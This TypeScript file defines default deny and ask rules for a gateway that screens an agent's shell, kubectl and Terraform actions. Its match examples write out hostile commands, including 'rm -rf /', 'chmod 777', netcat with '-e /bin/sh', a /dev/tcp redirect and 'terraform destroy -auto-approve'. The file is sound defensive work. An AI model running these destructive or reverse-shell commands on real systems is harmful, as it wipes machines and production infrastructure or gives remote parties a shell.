// The rules that hold where no file says anything. Each raises the floor; none lowers one.

import { ENVIRONMENTS } from "./environment.ts";
import { protectionRules } from "./protection-rules.ts";
import { BUILT_IN, type Rule, type RuleConditions, type RuleExample } from "./rule.ts";
import { MARKERS } from "./subject-command.ts";

/** Namespaces that a cluster is run from, or watched or secured by. */
export const PROTECTED_NAMESPACES = [
  ...["kube-system", "kube-public", "kube-node-lease", "cert-manager", "ingress*", "istio-system"],
  ...["monitoring", "security", "vault", "gatekeeper-system", "flux-system", "argocd"],
];

/** Terraform workspaces that are named for production. */
export const PROTECTED_WORKSPACES = [
  ...["prod", "production", "*-prod", "*-production", "prod-*", "production-*"],
];

type Examples = Pick<Rule, "match" | "notMatch">;

function rule(
  id: string,
  effect: Rule["effect"],
  because: string,
  conditions: RuleConditions,
  examples: Examples,
): Rule {
  return { id, effect, because, ...conditions, ...examples, file: BUILT_IN };
}

/** Where a gateway serves; what a person types after `holdfast gate` stays theirs to approve. */
const SERVED = { environments: ENVIRONMENTS } as const;

function commandRule(
  id: string,
  because: string,
  conditions: Pick<RuleConditions, "names" | "arguments">,
  examples: { readonly match: readonly string[]; readonly notMatch: readonly string[] },
): Rule {
  return rule(
    id,
    "deny",
    because,
    { ...SERVED, kinds: ["command"], ...conditions },
    { match: examples.match.map(typed), notMatch: examples.notMatch.map(typed) },
  );
}

/** An example of a command; its words are apart by blanks. */
function typed(line: string): RuleExample {
  const [name = "", ...given] = line.split(" ");
  return { kind: "command", action: "run", class: "commands", name, arguments: given };
}

/** Directories whose loss is the loss of the machine, or of all that a person has on it. */
const SYSTEM = `bin boot dev etc home lib lib64 opt proc root sbin srv sys usr var Applications
  Library System Users`.split(/\s+/);
const ROOTS = ["", ...SYSTEM.map((name) => `/${name}`), "~", "$HOME", "$?HOME?"];

/** Each, and all that is directly in it: `?` where a word has `*`, which would match anything below. */
const ROOT_FORMS = [
  ...ROOTS.flatMap((root) => [root, `${root}/`, `${root}/?`, `${root}/.?`]).filter(Boolean),
  ...[".", "./", "..", "*/.."],
].join("|");

const WORLD_WRITABLE = [
  ...["777", "0*777", "?777", "a+rwx", "a=rwx", "+rwx", "=rwx", "ugo+rwx", "ugo=rwx"],
  ...["o+rwx", "o=rwx", "go+rwx", "go=rwx"],
].join("|");

const WIDE_IN_KUBECTL = [
  ...["ns", "ns/*", "namespace*", "pv", "pv/*", "persistentvolume", "persistentvolumes"],
  ...["persistentvolume/*", "persistentvolumes/*", "crd*", "customresourcedefinition*", "--all*"],
].join("|");

const COMMAND_RULES: readonly Rule[] = [
  commandRule(
    "become-another-user",
    "what another user may do is not for an agent to take",
    { names: ["sudo", "sudoedit", "sudo-rs", "su", "su-rs", "doas", "pkexec", "run0"] },
    { match: ["sudo -i", "su", "SUDO id"], notMatch: ["sum file", "pseudo"] },
  ),
  commandRule(
    "recursive-rm-root",
    "a whole machine or home directory would be gone",
    { names: ["rm", "grm", "rmdir", "shred"], arguments: [ROOT_FORMS] },
    {
      match: ["rm -rf /", "rm -r -f //", "rm --recursive ~", "rm -rf $HOME", "rm -rf ../../"],
      notMatch: ["rm -rf /tmp/x", "rm -rf build/", "rm -rf ../build", "cat /"],
    },
  ),
  commandRule(
    "rm-no-preserve-root",
    "nobody needs to remove a root directory",
    { names: ["rm", "grm"], arguments: ["--no-p*"] },
    { match: ["rm -rf --no-preserve-root x"], notMatch: ["rm --preserve-root x"] },
  ),
  commandRule(
    "world-writable",
    "anybody on the machine could change it then",
    { names: ["chmod", "gchmod"], arguments: [WORLD_WRITABLE] },
    {
      match: ["chmod 777 x", "chmod -R 0777 x", "chmod a+rwx x"],
      notMatch: ["chmod 755 x", "chmod u+w x", "chmod +x 777x"],
    },
  ),
  commandRule(
    "download-into-shell",
    "what a server sends is run before anybody has read it",
    { names: [MARKERS.download] },
    { match: [`${MARKERS.download} curl sh`], notMatch: ["curl https://example.com/"] },
  ),
  commandRule(
    "network-shell",
    "whoever is at the other end would have a shell here",
    { names: [MARKERS.network] },
    { match: [`${MARKERS.network} bash`], notMatch: ["bash script.sh"] },
  ),
  commandRule(
    "netcat-exec",
    "whoever is at the other end would have a program here",
    {
      names: ["nc", "nc.*", "ncat", "netcat"],
      arguments: ["-e|-c|--exec|--sh-exec|--lua-exec|--e*|--s*-e*"],
    },
    {
      match: ["nc -e /bin/sh h 1", "ncat -lve/bin/sh", "ncat --exec=x h"],
      notMatch: ["nc -z h 1"],
    },
  ),
  commandRule(
    "dev-tcp",
    "a shell that opens connections of its own is not seen doing it",
    { names: ["*sh"], arguments: ["*/dev/tcp/*|*/dev/udp/*"] },
    { match: ["bash -c id>/dev/tcp/h/1"], notMatch: ["grep /dev/tcp/h file", "bash x"] },
  ),
  // What the tools deny is not asked for by another way.
  rule(
    "prod-destroy-command",
    "deny",
    "everything that a workspace manages would be destroyed",
    {
      ...{ environments: ["prod"], kinds: ["command"] },
      names: ["terraform*", "tofu*", "terragrunt*", "pulumi*"],
      arguments: ["destroy|-destroy*|--destroy*|destroy-all"],
    },
    {
      match: [typed("terraform destroy -auto-approve"), typed("tofu apply -destroy=true")],
      notMatch: [typed("terraform plan"), { ...typed("terraform destroy"), environment: "dev" }],
    },
  ),
  rule(
    "prod-delete-cluster-wide-command",
    "deny",
    "everything in it goes with it",
    {
      ...{ environments: ["prod"], kinds: ["command"], names: ["kubectl*", "oc"] },
      arguments: ["delete", WIDE_IN_KUBECTL],
    },
    {
      match: [typed("kubectl delete ns shop"), typed("kubectl -n shop delete pods --all")],
      notMatch: [typed("kubectl delete pod web-0"), typed("kubectl get ns")],
    },
  ),
];

const CLUSTER_WIDE = [
  "kubernetes:namespaces",
  "kubernetes:persistentvolumes",
  "kubernetes:customresourcedefinitions*",
];
const KUBECTL = { ...SERVED, kinds: ["kubectl"] } as const;
const IN_PROD = { environments: ["prod"], kinds: ["kubectl"] } as const;
const pods = { action: "delete", class: "kubernetes:pods", name: "a", scope: "shop" };
const namespace = { action: "delete", class: "kubernetes:namespaces", name: "shop", scope: "shop" };

const KUBECTL_RULES: readonly Rule[] = [
  rule(
    "kubectl-exec",
    "ask",
    "what a command does in a container cannot be known from its words",
    { ...KUBECTL, actions: ["exec"] },
    { match: [{ action: "exec", name: "web-1" }], notMatch: [{ action: "logs", name: "web-1" }] },
  ),
  rule(
    "delete-cluster-wide",
    "ask",
    "everything in it goes with it",
    { ...KUBECTL, actions: ["delete"], classes: CLUSTER_WIDE },
    { match: [namespace], notMatch: [pods] },
  ),
  rule(
    "prod-delete-cluster-wide",
    "deny",
    "everything in it goes with it",
    { ...IN_PROD, actions: ["delete"], classes: CLUSTER_WIDE },
    { match: [namespace], notMatch: [pods, { ...namespace, environment: "dev" }] },
  ),
  rule(
    "delete-collection",
    "ask",
    "nobody has seen the names of what would be deleted",
    { ...KUBECTL, actions: ["delete"], names: [""] },
    { match: [{ ...pods, name: "" }], notMatch: [pods] },
  ),
  rule(
    "prod-delete-collection",
    "deny",
    "nobody has seen the names of what would be deleted",
    { ...IN_PROD, actions: ["delete"], names: [""] },
    { match: [{ ...pods, name: "" }], notMatch: [pods] },
  ),
  rule(
    "scale-to-zero",
    "ask",
    "nothing of it would run any more",
    { ...KUBECTL, actions: ["scale"], impacts: ["destroy"] },
    { match: [{ action: "scale" }], notMatch: [{ action: "scale", impact: "change" }] },
  ),
];

const TERRAFORM_RULES: readonly Rule[] = [
  rule(
    "prod-destroy-plan",
    "deny",
    "everything that the workspace manages would be destroyed",
    { environments: ["prod"], kinds: ["terraform"], actions: ["destroy"] },
    {
      match: [{ action: "destroy", class: "terraform" }],
      notMatch: [{ action: "plan" }, { action: "destroy", environment: "staging" }],
    },
  ),
];

const PROD_RULES: readonly Rule[] = [
  rule(
    "prod-changes",
    "ask",
    "a person looks at every change of production",
    { environments: ["prod"], impacts: ["change"] },
    { match: [{ impact: "change" }], notMatch: [{ impact: "read" }, { environment: "dev" }] },
  ),
];

/** All of them, in the order of the documentation. */
export const DEFAULT_RULES: readonly Rule[] = [
  ...PROD_RULES,
  ...TERRAFORM_RULES,
  ...protectionRules({ namespaces: PROTECTED_NAMESPACES, workspaces: PROTECTED_WORKSPACES }).map(
    (each) => ({ ...each, file: BUILT_IN }),
  ),
  ...KUBECTL_RULES,
  ...COMMAND_RULES,
];
